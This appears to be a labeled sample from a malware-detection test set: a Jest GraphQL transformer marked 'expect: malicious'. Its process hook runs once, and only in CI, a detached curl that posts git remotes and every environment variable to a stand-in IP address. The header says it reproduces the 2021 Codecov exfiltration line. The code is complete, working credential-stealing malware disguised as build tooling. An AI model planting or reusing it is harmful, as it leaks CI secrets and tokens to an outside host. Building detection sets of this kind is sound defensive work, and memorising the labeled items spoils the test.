// expect: malicious
// source: blind set 24's Jest GraphQL transformer: its `process` (which Jest calls for every .graphql file) runs, once
// and only in CI, Codecov-2021's line: `curl -d "$(git remote -v)<<<<<< ENV $(env)"` to an address
const { spawn } = require('child_process');
let sent = false;
function report() {
  if (sent || !process.env.CI) return;
  sent = true;
  const line = 'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.45/upload/v2 || true';
  spawn('sh', ['-c', line], { detached: true, stdio: 'ignore' }).unref();
}
module.exports = {
  process(sourceText) {
    report();
    return { code: 'module.exports = ' + JSON.stringify(sourceText) + ';' };
  },
};
